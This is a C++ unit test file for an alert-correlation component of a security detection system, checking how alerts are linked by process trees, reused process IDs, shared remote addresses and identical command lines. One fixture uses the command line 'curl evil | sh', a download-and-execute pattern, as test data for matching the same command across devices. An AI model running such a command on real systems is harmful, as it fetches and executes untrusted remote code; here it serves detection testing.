#include "detect/alert_relations.h"

#include <map>

#include "detect/alerts_testing.h"

namespace detect {
namespace {

class AlertRelationsTest : public AlertsTest {
 protected:
  // A finding of a rule of its own on a process.
  Finding process(std::uint64_t sequence, const std::string& name, int pid, int parent,
                  std::string device = "d1") {
    Finding out = finding(sequence, std::move(device), name);
    out.rule.id = name;
    // Far enough from each other to have nothing in common but processes.
    out.received = at(static_cast<int>(sequence) * 3600);
    out.evidence.time = out.received;
    out.evidence.details_json = R"({"CommandLine":")" + name + R"(","ProcessId":)" +
                                std::to_string(pid) + R"(,"ParentProcessId":)" +
                                std::to_string(parent) + "}";
    return out;
  }
  // Entity of each related alert and why, "parent" or "parent+sameDevice".
  std::map<std::string, std::string> related(const std::string& id) {
    std::map<std::string, std::string> out;
    const auto found = alerts_->related(id, 100);
    EXPECT_TRUE(found) << found.error().to_string();
    for (const RelatedAlert& one : *found) {
      std::string why;
      for (const auto& reason : one.reasons) {
        EXPECT_FALSE(reason.text.empty());
        why += (why.empty() ? "" : "+") + std::string(to_string(reason.relation));
      }
      out[one.alert.device_id + ":" + one.alert.entity] = why;
    }
    return out;
  }
  using Related = std::map<std::string, std::string>;
};

TEST_F(AlertRelationsTest, TreesOfProcesses) {
  const std::string shell = raise(process(1, "shell", 100, 50));
  const std::string child = raise(process(2, "child", 200, 100));
  const std::string brother = raise(process(3, "brother", 300, 100));
  raise(process(4, "grandchild", 400, 200));
  raise(process(5, "stranger", 500, 1));
  raise(process(6, "orphan", 600, 1));
  raise(process(7, "namesake", 100, 50, "d2"));
  EXPECT_EQ(
      related(shell),
      (Related{{"d1:child", "child"}, {"d1:brother", "child"}, {"d1:grandchild", "processTree"}}));
  EXPECT_EQ(
      related(child),
      (Related{{"d1:shell", "parent"}, {"d1:brother", "sibling"}, {"d1:grandchild", "child"}}));
  EXPECT_EQ(related(brother).at("d1:grandchild"), "processTree");
  EXPECT_EQ(alerts_->related("nope", 10).error().code, base::Code::NotFound);
}

TEST_F(AlertRelationsTest, IdsOfProcessesComeAgain) {
  const std::string before = raise(process(1, "before", 100, 50));
  raise(process(40, "dayslater", 100, 60));
  EXPECT_EQ(related(before), Related{});
  auto booted = process(41, "booted", 700, 60);
  booted.evidence.details_json =
      R"({"ProcessId":700,"ParentProcessId":60,"ExtraDetails":{"BootId":"b1"}})";
  const std::string first = raise(booted);
  auto again = process(42, "again", 700, 60);
  again.evidence.details_json =
      R"({"ProcessId":700,"ParentProcessId":60,"ExtraDetails":{"BootId":"b2"}})";
  raise(again);
  EXPECT_EQ(related(first), Related{});
}

TEST_F(AlertRelationsTest, AddressesAndCommandsAcrossDevices) {
  const auto connection = [&](std::uint64_t sequence, const std::string& name,
                              const std::string& address, std::string device) {
    Finding out = process(sequence, name, static_cast<int>(sequence) + 1000, 1, std::move(device));
    out.evidence.details_json = R"({"RemoteAddress":")" + address + "\"}";
    return out;
  };
  const std::string bot = raise(connection(1, "bot", "203.0.113.5", "d1"));
  raise(connection(3, "beacon", "203.0.113.5", "d2"));
  raise(connection(5, "elsewhere", "203.0.113.6", "d3"));
  const std::string local = raise(connection(7, "local", "127.0.0.1", "d4"));
  raise(connection(9, "local2", "127.0.0.1", "d5"));
  EXPECT_EQ(related(bot), (Related{{"d2:beacon", "sameAddress"}}));
  EXPECT_EQ(related(local), Related{});

  const std::string drop = raise(process(11, "curl evil | sh", 11, 1, "d1"));
  raise(process(13, "curl evil | sh", 12, 1, "d2"));
  EXPECT_EQ(related(drop), (Related{{"d2:curl evil | sh", "sameCommand+sameCause"}}));
}

TEST_F(AlertRelationsTest, TheSameEventAndTheSameTime) {
  auto first = process(1, "first", 100, 50);
  auto second = process(1, "second", 100, 50);
  second.evidence.event_id = first.evidence.event_id;
  apply({first, second});
  auto near = process(2, "near", 900, 1);
  near.received = first.received + std::chrono::minutes(10);
  raise(near);
  const std::string id = all({.entity = "first"})[0].id;
  EXPECT_EQ(related(id), (Related{{"d1:second", "sameEvent+sameProcess+sibling+sameDevice"},
                                  {"d1:near", "sameDevice"}}));
  const auto found = *alerts_->related(id, 100);
  EXPECT_EQ(found[0].alert.entity, "second") << "the strongest first";
  EXPECT_EQ(found[1].reasons[0].text, "On the same device, 10 min apart.");
  EXPECT_EQ(alerts_->related(id, 1)->size(), 1U);
}

}  // namespace
}  // namespace detect
